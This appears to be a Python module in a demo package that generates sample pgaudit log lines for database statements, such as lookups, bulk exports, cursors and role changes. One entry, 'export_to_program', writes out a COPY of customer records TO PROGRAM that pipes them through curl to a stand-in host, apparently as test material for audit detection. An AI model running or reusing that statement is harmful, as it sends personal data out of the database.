"""The statements that a platform's staff and services run, as pgaudit will write them."""

# ruff: noqa: S608 - these statements are written to a log, never run

from __future__ import annotations

from dataclasses import dataclass

from rua_demo.profiles import Profile
from rua_demo.writers import LITERAL, Sql


@dataclass(frozen=True, slots=True)
class Shapes:
    """The statements of one platform, escaped once."""

    lookups: tuple[Sql, ...]
    queries: tuple[Sql, ...]
    export: Sql
    export_orders: Sql
    export_to_program: Sql
    bulk_read: Sql
    batch: tuple[Sql, ...]
    copy_table: Sql
    lock: Sql
    begin: Sql
    declare: Sql
    fetch: Sql
    commit: Sql
    set_role: Sql
    reset_role: Sql
    maintain: Sql
    change: Sql


def shapes(profile: Profile) -> Shapes:
    """The statements that a platform's staff and services run."""
    people, orders, addresses = profile.customers, profile.orders, profile.addresses
    multi_line = f"SELECT c.id, c.name, o.total\nFROM {people} c\nJOIN {orders} o ON o.customer = c.id\n"
    multi_line += f"WHERE o.province = 'เชียงใหม่' -- จังหวัด, \"ภาคเหนือ\"\n  AND o.day > {LITERAL};"
    copy = (
        f"COPY (SELECT id, name, phone, email FROM {people} WHERE id % {LITERAL} = 0) TO STDOUT (FORMAT csv, HEADER);"
    )
    program = (
        f"COPY (SELECT * FROM {people} WHERE id > {LITERAL}) TO PROGRAM 'curl -sT - https://drop.example.net/in' CSV;"
    )
    return Shapes(
        lookups=(
            Sql("READ", "SELECT", f"SELECT * FROM {people} WHERE phone = $1", people, LITERAL),
            Sql("READ", "SELECT", f"SELECT id, state, total FROM {orders} WHERE id = {LITERAL};", orders),
            Sql("READ", "SELECT", f"SELECT * FROM {addresses} WHERE customer = {LITERAL};", addresses),
        ),
        queries=(
            Sql("READ", "SELECT", multi_line, people),
            Sql("READ", "SELECT", f"SELECT province, count(*) FROM {orders} WHERE day > {LITERAL} GROUP BY 1;", orders),
            Sql("READ", "SELECT", f"SELECT id, email, created FROM {people} WHERE created > {LITERAL};", people),
        ),
        export=Sql("READ", "SELECT", copy, people),
        export_orders=Sql(
            "READ", "SELECT", f"COPY (SELECT * FROM {orders} WHERE day > {LITERAL}) TO STDOUT CSV;", orders
        ),
        export_to_program=Sql("READ", "SELECT", program, people),
        bulk_read=Sql("READ", "SELECT", f"SELECT * FROM {people} WHERE id > {LITERAL} ORDER BY id;", people),
        batch=(
            Sql("READ", "SELECT", f"SELECT * FROM {orders} WHERE updated > $1", orders, LITERAL),
            Sql("READ", "SELECT", f"SELECT * FROM {people} WHERE updated > $1", people, LITERAL),
        ),
        copy_table=Sql("READ", "COPY", f"COPY public.{people} TO stdout;"),
        lock=Sql("MISC", "LOCK TABLE", f"LOCK TABLE public.{people} IN ACCESS SHARE MODE"),
        begin=Sql("MISC", "BEGIN", "BEGIN"),
        declare=Sql("READ", "DECLARE CURSOR", f'DECLARE "srv" CURSOR FOR SELECT * FROM {orders}'),
        fetch=Sql("MISC", "FETCH", 'FETCH FORWARD 500 FROM "srv"'),
        commit=Sql("MISC", "COMMIT", "COMMIT"),
        set_role=Sql("MISC", "SET", "SET ROLE app_owner;"),
        reset_role=Sql("MISC", "RESET", "RESET ROLE;"),
        maintain=Sql("DDL", "CREATE INDEX", f"CREATE INDEX CONCURRENTLY i_{LITERAL} ON {orders} (day);"),
        change=Sql("WRITE", "UPDATE", f"UPDATE {orders} SET state = 'sent' WHERE id = {LITERAL};", orders),
    )


def grant(role: str, grantee: str) -> Sql:
    """`GRANT role TO grantee;`."""
    return Sql("ROLE", "GRANT ROLE", f'GRANT {role} TO "{grantee}";')
